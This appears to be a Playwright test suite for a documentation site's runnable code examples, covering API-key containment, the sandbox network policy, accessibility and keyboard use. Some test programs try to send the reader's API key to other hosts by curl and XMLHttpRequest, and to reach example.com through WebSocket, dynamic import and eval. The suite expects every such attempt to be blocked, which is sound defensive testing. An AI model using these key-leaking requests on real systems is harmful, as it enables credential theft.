import { readFileSync } from "node:fs";
import { createRequire } from "node:module";
import { createSandbox, type Sandbox } from "@sinkove/mock-server";
import type { Page } from "playwright-core";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { edit, type Language, press, programsOf } from "./program.ts";
import { type OpenSite, open, openSite, reload, resetSandbox } from "./site.ts";

let site: OpenSite;
beforeAll(async () => {
  site = await openSite();
});
afterAll(() => site.close());

/** Writes a program into the first example of a page and runs it. */
async function runEdited(page: Page, language: Language, code: string) {
  const [program] = await programsOf(page, language);
  if (!program) throw new Error("The page has no example.");
  await (await edit(program)).fill(code);
  return press(program);
}

describe("the reader's key", () => {
  let mock: Sandbox;
  beforeAll(async () => {
    mock = await createSandbox({ port: 0 });
  });
  afterAll(() => mock[Symbol.asyncDispose]());

  test("is in the page's memory only, and is sent to the chosen address only", async () => {
    const { apiKey: canary } = await mock.newWorld();
    const context = await site.browser.newContext();
    const page = await context.newPage();
    const carriers = new Set<string>();
    context.on("request", (request) => {
      const sent = `${request.url()} ${JSON.stringify(request.headers())} ${request.postData()}`;
      if (sent.includes(canary)) carriers.add(new URL(request.url()).origin);
    });
    await open(page, `${site.url}/get-started`);
    await page.locator('[data-action="target"]:visible').first().click();
    await page.getByLabel("Your API").check();
    await page.getByLabel("Address").fill(mock.baseUrl);
    await page.getByLabel("API key").fill(canary);
    await page.getByRole("button", { name: "Done" }).click();

    const ts = await runEdited(
      page,
      "ts",
      `import { Sinkove } from "@sinkove/sdk";
console.log((await new Sinkove().me()).account.name, process.env.SINKOVE_API_KEY);
process.env.KEPT = process.env.SINKOVE_API_KEY;
process.stdout.write("in two pieces: " + process.env.SINKOVE_API_KEY.slice(0, 20));
process.stdout.write(process.env.SINKOVE_API_KEY.slice(20) + "\\n");
throw new Error("with " + process.env.SINKOVE_API_KEY);`,
    );
    expect(ts.stdout).toBe("Ada Lovelace [your key]\nin two pieces: [your key]\n");
    expect(ts.stderr).toContain("with [your key]");
    const sh = await runEdited(
      page,
      "sh",
      `curl -s "$SINKOVE_API_URL/me?also=$SINKOVE_API_KEY" -H "Authorization: Bearer $SINKOVE_API_KEY" | jq -r .code
curl -s "${site.url}/other?key=$SINKOVE_API_KEY" || echo refused
echo "$KEPT"`,
    );
    expect(sh.stdout).toContain("refused\n[your key]\n");
    const py = await runEdited(
      page,
      "py",
      `import os, js, sinkove as sk
print(sk.client().me().account.name, os.environ["SINKOVE_API_KEY"])
try:
    js.XMLHttpRequest.new().open("GET", "https://example.com/" + os.environ["SINKOVE_API_KEY"], False)
except Exception as error:
    print("refused")`,
    );
    expect(py.stdout).toBe("Ada Lovelace [your key]\nrefused\n");

    expect([...carriers]).toEqual([mock.baseUrl]);
    expect(await everythingKept(page)).not.toContain(canary);
    expect(await page.content()).not.toContain(canary);
    expect(page.url()).not.toContain(canary);
    await reload(page);
    const [program] = await programsOf(page, "ts");
    await program?.locator('[data-action="target"]').click();
    await expect.poll(() => page.getByLabel("API key").inputValue()).toBe("");
    await context.close();
  });
});

/** Returns all data that the origin has stored, as text. */
function everythingKept(page: Page): Promise<string> {
  return page.evaluate(async () => {
    const kept: unknown[] = [{ ...localStorage }, { ...sessionStorage }, document.cookie];
    const promised = <T>(request: IDBRequest<T>): Promise<T> =>
      new Promise((resolve, reject) => {
        request.onsuccess = () => resolve(request.result);
        request.onerror = () => reject(request.error);
      });
    for (const { name = "" } of await indexedDB.databases()) {
      const database = await promised(indexedDB.open(name));
      for (const store of database.objectStoreNames) {
        kept.push(await promised(database.transaction(store).objectStore(store).getAll()));
      }
      database.close();
    }
    for (const name of await caches.keys()) {
      for (const request of await (await caches.open(name)).keys()) kept.push(request.url);
    }
    return JSON.stringify(kept);
  });
}

describe("the files of a run", () => {
  test("are loaded once the reader is active, before they press Run", async () => {
    const context = await site.browser.newContext();
    const page = await context.newPage();
    await open(page, `${site.url}/get-started`);
    await page.waitForLoadState("networkidle");
    expect(page.workers()).toEqual([]);
    expect(await registrations(page)).toBe(0);
    const worker = page.waitForEvent("worker");
    await page.mouse.move(5, 5);
    expect((await worker).url()).toContain("run-worker.js");
    expect(await registrations(page)).toBe(1);
    await context.close();
  });
});

function registrations(page: Page): Promise<number> {
  return page.evaluate(async () => (await navigator.serviceWorker.getRegistrations()).length);
}

describe("the authentication guide", () => {
  test.each(["ts", "sh", "py"] as const)(
    "runs from top to bottom in %s, again after a reload, and in what was left",
    async (language) => {
      const { page, url } = site;
      await open(page, `${url}/authentication`);
      await page.locator('[data-action="run"]:visible').first().hover();
      await resetSandbox(page);
      const first = await runAll(page, language);
      await reload(page);
      const second = await runAll(page, language);
      expect(first.length).toBeGreaterThan(4);
      expect([...first, ...second].map(({ phase }) => phase)).toEqual(
        [...first, ...second].map(() => "ended"),
      );
      expect([...first, ...second].filter(({ status }) => status !== 0)).toEqual([]);
    },
  );

  test("leaves a key that the next example, in another language and after a reload, can use", async () => {
    const { page, url } = site;
    await open(page, `${url}/authentication`);
    const made = await runEdited(
      page,
      "sh",
      `export MY_KEY=$(curl -s "$SINKOVE_API_URL/api-keys" -H "Authorization: Bearer $SINKOVE_API_KEY" \\
  -H "Content-Type: application/json" -d '{ "name": "Carried over" }' | jq -r .secret)`,
    );
    expect(made).toMatchObject({ stdout: "", stderr: "" });
    await reload(page);
    const used = await runEdited(
      page,
      "ts",
      `import { Sinkove } from "@sinkove/sdk";
console.log((await new Sinkove({ apiKey: process.env.MY_KEY }).me()).apiKey.name);`,
    );
    expect(used.stdout).toBe("Carried over\n");
    const again = await runEdited(
      page,
      "py",
      `import os, sinkove as sk\nprint(sk.client(os.environ["MY_KEY"]).me().api_key.name)`,
    );
    expect(again.stdout).toBe("Carried over\n");
  });
});

async function runAll(page: Page, language: Language) {
  const shown = [];
  for (const program of await programsOf(page, language)) shown.push(await press(program));
  return shown;
}

describe("the policy", () => {
  test("keeps a program's worker from every origin but the target's, in every way", async () => {
    const { page, url } = site;
    await open(page, `${url}/get-started`);
    const before = site.strangers.length;
    const { stdout } = await runEdited(
      page,
      "ts",
      `const tries = {
  xhr: () => new Promise((resolve, reject) => {
    const request = new XMLHttpRequest();
    request.open("GET", "https://example.com/");
    request.onload = resolve;
    request.onerror = () => reject(new Error("refused"));
    request.send();
  }),
  socket: () => new Promise((resolve, reject) => {
    const socket = new WebSocket("wss://example.com/");
    socket.onopen = resolve;
    socket.onerror = () => reject(new Error("refused"));
  }),
  module: () => import("data:text/javascript,export default 1"),
  evaluation: () => eval("1"),
};
for (const [name, attempt] of Object.entries(tries)) {
  try { await attempt(); console.log(name, "REACHED"); } catch { console.log(name, "refused"); }
}`,
    );
    expect(stdout).not.toContain("REACHED");
    expect(site.strangers.length).toBe(before);
  });
});

const axe = readFileSync(createRequire(import.meta.url).resolve("axe-core/axe.min.js"), "utf8");

describe("axe", () => {
  test.each(["light", "dark"] as const)(
    "finds nothing in the examples of a page after a run: %s",
    async (colorScheme) => {
      const { page, url } = site;
      await page.emulateMedia({ colorScheme });
      for (const path of ["/get-started", "/authentication", "/reference/create-dataset"]) {
        await open(page, url + path);
        for (const language of ["ts", "sh"] as const) {
          const [program] = await programsOf(page, language);
          if (program) await press(program);
        }
        expect(await violations(page), path).toEqual([]);
        await page.getByRole("button", { name: "Edit" }).first().click();
        await page.locator('[data-action="target"]:visible').first().click();
        await page.getByLabel("Your API").check();
        expect(await violations(page), `${path} with its dialog`).toEqual([]);
        await page.getByLabel("In this page").check();
      }
    },
  );
});

/** Runs axe through the browser's automation, which the page's policy does not restrict. */
async function violations(page: Page): Promise<unknown> {
  await page.evaluate(axe);
  return page.evaluate(async () => {
    // The line above has defined this global.
    const { axe } = globalThis as unknown as {
      axe: {
        run: (
          within: object,
        ) => Promise<{ violations: { id: string; nodes: { html: string }[] }[] }>;
      };
    };
    const found = await axe.run({ include: ["[data-runnable]"] });
    return found.violations.map(({ id, nodes }) => [id, ...nodes.map(({ html }) => html)]);
  });
}

describe("the keyboard", () => {
  test("reaches tabs, Run, Edit and the output", async () => {
    const { page, url } = site;
    await open(page, `${url}/get-started`);
    await programsOf(page, "ts");
    await page.locator('[data-tab="ts"]').first().focus();
    await page.keyboard.press("ArrowRight");
    expect(await focused(page)).toBe("curl");
    await page.keyboard.press("End");
    expect(await focused(page)).toBe("Python");
    await page.keyboard.press("Home");
    expect(await focused(page)).toBe("TypeScript");
    for (let step = 0; step < 6 && (await focused(page)) !== "Run"; step++) {
      await page.keyboard.press("Tab");
    }
    expect(await focused(page)).toBe("Run");
    await page.keyboard.press("Enter");
    await page.locator('[data-phase="ended"]').first().waitFor({ state: "attached" });
    await page.keyboard.press("Tab");
    expect(await focused(page)).toBe("Edit");
  });
});

function focused(page: Page): Promise<string> {
  return page.evaluate(() => document.activeElement?.textContent ?? "");
}
